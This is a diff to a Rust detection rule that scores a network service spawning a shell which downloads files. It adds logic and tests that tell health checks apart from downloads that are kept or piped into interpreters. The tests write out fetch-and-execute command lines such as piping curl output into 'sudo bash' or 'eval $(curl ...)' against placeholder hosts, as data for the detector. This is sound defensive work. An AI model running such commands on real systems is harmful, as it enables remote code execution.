@@ -2,19 +2,20 @@
 
 use crate::{
     detect::{Declaration, DetectionContext, Finding, SignalInfo, Stateless},
-    model::{EventType, ProcessKey, SignalClass},
-    process::{Role, Taint},
+    model::{EventType, ProcessView, SignalClass},
+    process::{Process, Role, Taint, base_name, installs_packages},
 };
 
 /// Maximum number of ancestors of the downloader to inspect. Shells and wrappers such as `timeout` stand between the
 /// service and the downloader.
 const MAX_ANCESTORS: usize = 8;
 
-/// The signal.
+/// The signal. The full form is a download that is kept or given to an interpreter. Health checks and archive commands
+/// of services call a downloader too, but they only look at the answer.
 pub const SERVICE_DOWNLOADER: SignalInfo = SignalInfo {
     id: "B1",
     class: SignalClass::Behavior,
-    weight: 35,
+    weight: 20,
     full_weight: 35,
     name: "Service started a shell that downloads",
     description: "A network service started a shell, and the shell a program that fetches files: what an exploited service does.",
@@ -36,13 +37,20 @@ fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
     if context.process.role != Role::Downloader {
         return None;
     }
-    let mut shell: Option<ProcessKey> = None;
-    for ancestor in context.table.ancestry(context.key()).skip(1).take(MAX_ANCESTORS) {
+    let mut shells: Vec<&Process> = Vec::new();
+    let ancestors = || context.table.ancestry(context.key()).skip(1).take(MAX_ANCESTORS);
+    for ancestor in ancestors() {
         match ancestor.role {
-            Role::Shell => shell = Some(ancestor.key()),
+            Role::Shell => shells.push(ancestor),
             Role::Interpreter | Role::Downloader | Role::Other => {}
             Role::Service => {
-                shell?;
+                if shells.is_empty() {
+                    return None;
+                }
+                // The scripts of a package run in the language of the package, with its installer above them.
+                if ancestors().any(|above| installs_packages(&above.view.arguments)) {
+                    return None;
+                }
                 let detail = format!(
                     "service '{}' (pid {}) started a shell that ran '{}'",
                     ancestor.view.name,
@@ -53,7 +61,9 @@ fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
                     .tainting(Taint::FetchesForService)
                     .value("service", &ancestor.view.executable.path)
                     .value("downloader", &context.process.view.executable.path);
-                return Some(finding);
+                let is_used = keeps(&context.process.view)
+                    || shells.iter().any(|shell| is_interactive(&shell.view) || pipes(&shell.view));
+                return Some(if is_used { finding.full() } else { finding });
             }
             Role::Kernel
             | Role::Init
@@ -67,6 +77,49 @@ fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
         }
     }
     None
+}
+
+/// Whether a downloader keeps what it fetches in a file.
+fn keeps(downloader: &ProcessView) -> bool {
+    let arguments = &downloader.arguments;
+    let discards = arguments.iter().any(|argument| argument.contains("/dev/null"));
+    let only_looks = arguments.iter().any(|argument| {
+        matches!(&**argument, "--spider" | "-I" | "--head" | "-T" | "--upload-file" | "-F" | "-d" | "--data")
+    });
+    if discards || only_looks {
+        return false;
+    }
+    if base_name(&downloader.executable.path).starts_with("curl") {
+        return arguments.iter().skip(1).any(|argument| {
+            let flags = argument.strip_prefix('-').filter(|flags| !flags.starts_with('-')).unwrap_or("");
+            flags.contains(['o', 'O']) || argument.starts_with("--output") || &**argument == "--remote-name"
+        });
+    }
+    // The others write a file unless they are told to print.
+    !arguments.iter().any(|argument| {
+        matches!(&**argument, "-O-" | "-qO-" | "-O -" | "--output-document=-" | "-")
+            || argument.ends_with("O-")
+    })
+}
+
+/// Whether somebody types into the shell, which no service lets anybody do.
+fn is_interactive(shell: &ProcessView) -> bool {
+    shell.arguments.get(1).is_some_and(|flag| &**flag == "-i")
+}
+
+/// Whether the code on a shell's command line gives what it fetches to an interpreter, or keeps it.
+fn pipes(shell: &ProcessView) -> bool {
+    const INTERPRETERS: [&str; 9] =
+        ["sh", "bash", "dash", "ash", "zsh", "python", "python3", "perl", "base64"];
+    shell.arguments.iter().skip(1).any(|code| {
+        let mut parts = code.split('|');
+        let _ = parts.next();
+        let into = |part: &str| {
+            let program = part.split_whitespace().find(|word| *word != "sudo" && !word.contains('='));
+            program.is_some_and(|program| INTERPRETERS.contains(&base_name(program.trim_end_matches(';'))))
+        };
+        parts.any(into) || code.contains("$(curl") || code.contains("$(wget") || code.contains("<(curl")
+    })
 }
 
 #[cfg(test)]
@@ -104,10 +157,36 @@ mod tests {
     }
 
     #[test]
+    fn a_shell_that_only_looks_at_the_answer_counts_less() {
+        let service: (&str, &[&str]) = ("/usr/bin/node", &["node", "server.js"]);
+        let cases: [(&[&str], &[&str], u8); 8] = [
+            (&["sh", "-c", "curl -fs http://app.example/health || exit 1"], &["curl", "-fs", "x"], 20),
+            (&["sh", "-c", "curl -so /dev/null http://x/"], &["curl", "-so", "/dev/null", "x"], 20),
+            (&["sh", "-c", "curl -T wal http://backup/"], &["curl", "-T", "wal", "x"], 20),
+            (&["sh", "-c", "curl -s http://x/ | grep -q ok"], &["curl", "-s", "x"], 20),
+            (&["sh", "-c", "curl -s http://x/ | sudo bash -s"], &["curl", "-s", "x"], 35),
+            (&["sh", "-c", "eval \"$(curl -s http://x/)\""], &["curl", "-s", "x"], 35),
+            (&["sh", "-i"], &["curl", "-sO", "x"], 35),
+            (&["bash", "/tmp/x"], &["curl", "--output", "/tmp/y", "x"], 35),
+        ];
+        for (shell, curl, weight) in cases {
+            let found = lineage(&[service, ("/usr/bin/dash", shell), ("/usr/bin/curl", curl)]);
+            assert_eq!(found, [("B1", weight)], "{shell:?}");
+        }
+    }
+
+    #[test]
     fn other_downloads_are_not_found() {
         let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
         let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
-        let cases: [&[(&str, &[&str])]; 6] = [
+        let cases: [&[(&str, &[&str])]; 7] = [
+            &[
+                ("/usr/bin/node", &["node", "/usr/bin/npm", "install"]),
+                shell,
+                ("/usr/bin/node", &["node", "preinstall.js"]),
+                shell,
+                curl,
+            ],
             &[("/usr/sbin/cron", &["cron"]), shell, curl],
             &[("/usr/sbin/sshd", &["sshd"]), ("/usr/bin/bash", &["-bash"]), curl],
             &[("/usr/bin/node", &["node", "/usr/bin/npm", "install"]), shell, curl],
